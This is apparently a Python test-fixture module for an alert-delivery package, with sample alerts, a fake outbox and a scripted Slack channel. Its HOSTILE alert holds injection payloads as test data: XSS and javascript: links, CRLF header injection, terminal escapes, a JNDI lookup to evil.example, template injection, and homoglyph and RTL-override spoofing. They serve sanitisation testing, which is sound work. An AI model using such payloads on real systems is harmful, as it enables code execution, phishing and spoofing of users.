"""Alerts to render and an outbox in memory, shared by the tests of alerts/."""

import traceback
from collections.abc import Sequence
from dataclasses import dataclass, field, replace
from datetime import UTC, datetime, timedelta

import pytest

from alerts.channels import Channel, DeliveryError
from watcher.types import Alert, Delivery, DeliveryState, Section

NOW = datetime(2026, 8, 24, 8, 0, tzinfo=UTC)
SECRET = "TIiajkdnlazkcOXrIdevi7"
SLACK = f"slack://T1JJ3T3L2/A1BRTD4JD/{SECRET}"
SLACK_PATH = f"/services/T1JJ3T3L2/A1BRTD4JD/{SECRET}"

RICH = Alert(
    id="5f1d2c3b4a596877",
    thread="mistral-small-4",
    trigger="quant-in-use",
    title="bartowski/Mistral-Small-4-119B-2603-GGUF: a quant of your model that changes what fits",
    sections=(
        Section(
            heading="What changed",
            lines=(
                "bartowski/Mistral-Small-4-119B-2603-GGUF: new-quant, Q4_K_M & IQ4_XS",
                "evidence: first quant of this model by a publisher you trust, 14 files with hashes, "
                "published 2026-08-23 by bartowski and described in its card as made with llama.cpp b6210",
                "seen 2026-08-24 08:00 UTC",
            ),
        ),
        Section(
            heading="Why it matters to you", lines=("helpdesk (spark): your weights grow from Q3 to Q4",)
        ),
        Section(
            heading="Fit",
            lines=(
                "helpdesk on spark, 10 user(s) x 8192 tokens, sglang:",
                "  Q4_K_M: fits, 81.3 of 108.0 GiB, up to 22 user(s), 11-15 tok/s per user",
                "  in use: Q3_K_L fits, 62.0 of 108.0 GiB, up to 37 user(s)",
            ),
        ),
        Section(heading="Caveats", lines=()),
        Section(
            heading="Next step",
            lines=(
                "Pull it on a test node and run your evaluation set against the weights in use.",
                "The whole story: modelwatch explain bartowski/Mistral-Small-4-119B-2603-GGUF",
            ),
        ),
    ),
    links=(
        ("the repo", "https://huggingface.co/bartowski/Mistral-Small-4-119B-2603-GGUF"),
        ("its files", "https://huggingface.co/bartowski/Mistral-Small-4-119B-2603-GGUF/tree/main?a=1&b=2"),
    ),
    deployments=("helpdesk",),
    created_at=NOW,
)

HOSTILE = Alert(
    id="00badbadbadbad00",
    thread="evil\x1b[2J",
    trigger="new-family",
    title="\x1b[31mFree\x1b[0m GPUs\r\nBcc: everyone@corp.example\r\n\r\n<script>alert(1)</script> *@here*",
    sections=(
        Section(
            heading="What changed\n# A heading of mine <h1>",
            lines=(
                "evil/model: licence mit -> \u202etxt.exe\u202c <!channel> <!here|look> @channel <@U123> & 1",
                "see [your invoice](javascript:alert(1)) or <https://evil.example|huggingface.co> or <b>",
                "a\u200bb\u2060 and\u2028line\u2029breaks\x85here\ttab \x9b31m\x07 \x1b]0;title\x07end",
                "- nested? # heading? 1. list? ``` code ``` ~~gone~~ | a | b | __init__ ![x](https://evil.example/x)",
                "\x1b[2J\u200b",
                "1. first ${jndi:ldap://evil.example/a} {{ 7*7 }} %s \ud800",
                "  x.@everyone wrote to a@b.example, <users/all>",
            ),
        ),
    ),
    links=(
        ("click] me|<b>", "javascript:alert(document.cookie)"),
        ("data", "data:text/html,<script>alert(1)</script>"),
        ("user part", "https://huggingface.co@evil.example/"),
        ("a <b>|title] ok", "https://huggingface.co/evil/model?x=<y>&z=\"'()|"),
        ("look-alike", "https://huggingfаce.co/model"),
    ),
    deployments=("help\x1b[1mdesk",),
    created_at=NOW,
)


def alert(number: int = 1, *, created_at: datetime = NOW) -> Alert:
    """A small alert of its own id; higher numbers are younger."""
    created = created_at + timedelta(seconds=number)
    return replace(RICH, id=f"alert-{number}", title=f"Alert number {number}", created_at=created)


@dataclass
class FakeOutbox:
    """Deliveries in memory, kept as the store keeps them: begin counts, settle decides."""

    rows: dict[tuple[str, str], Delivery] = field(default_factory=dict)
    waiting: set[tuple[str, str]] = field(default_factory=set)

    def add(self, *alerts: Alert, channel: str = "ops", state: DeliveryState = DeliveryState.PENDING) -> None:
        for each in alerts:
            row = Delivery(
                alert=each, channel=channel, state=state, attempts=0, next_attempt_at=each.created_at
            )
            self.rows[each.id, channel] = row
            self.waiting.add((each.id, channel))

    def due(self, now: datetime, limit: int = 100) -> Sequence[Delivery]:
        rows = [self.rows[key] for key in self.waiting if self.rows[key].next_attempt_at <= now]
        return sorted(rows, key=lambda row: row.next_attempt_at)[:limit]

    def begin(self, delivery: Delivery, now: datetime) -> bool:
        key = delivery.alert.id, delivery.channel
        if self.rows[key].attempts != delivery.attempts:
            return False
        self.rows[key] = replace(delivery, attempts=delivery.attempts + 1)
        return True

    def settle(
        self,
        delivery: Delivery,
        state: DeliveryState,
        next_attempt_at: datetime | None,
        error: str | None,
        now: datetime,
        *,
        begun: bool = True,
    ) -> bool:
        key = delivery.alert.id, delivery.channel
        if self.rows[key].attempts != delivery.attempts + begun:
            return False
        self.rows[key] = replace(
            self.rows[key], state=state, last_error=error, next_attempt_at=next_attempt_at or now
        )
        if next_attempt_at is None:
            self.waiting.discard(key)
        return True

    def states(self) -> dict[str, str]:
        return {key[0]: row.state.value for key, row in sorted(self.rows.items())}


@dataclass
class ScriptedChannel:
    """Answers from a list: None accepts, an exception is raised; after the list it accepts."""

    name: str = "ops"
    script: list[Exception | None] = field(default_factory=list)
    sent: list[str] = field(default_factory=list)
    tries: int = 0

    def send(self, alert: Alert, now: datetime) -> None:
        self.tries += 1
        answer = self.script.pop(0) if self.script else None
        if answer is not None:
            raise answer
        self.sent.append(alert.id)


def down(message: str = "ops: Slack answered 503") -> DeliveryError:
    return DeliveryError(message)


def hung() -> DeliveryError:
    return DeliveryError("ops: Slack gave no answer in time; it may have arrived", timed_out=True)


def refused() -> DeliveryError:
    return DeliveryError("ops: Slack answered 403 (forbidden)", permanent=True)


def failure(channel: Channel) -> DeliveryError:
    """The error of a send that must fail, after a look that nothing printable of it holds the secret."""
    with pytest.raises(DeliveryError) as raised:
        channel.send(RICH, NOW)
    shown = "".join(traceback.format_exception(raised.value)) + repr(channel) + repr(raised.value)
    assert SECRET not in shown
    assert raised.value.__cause__ is None
    return raised.value
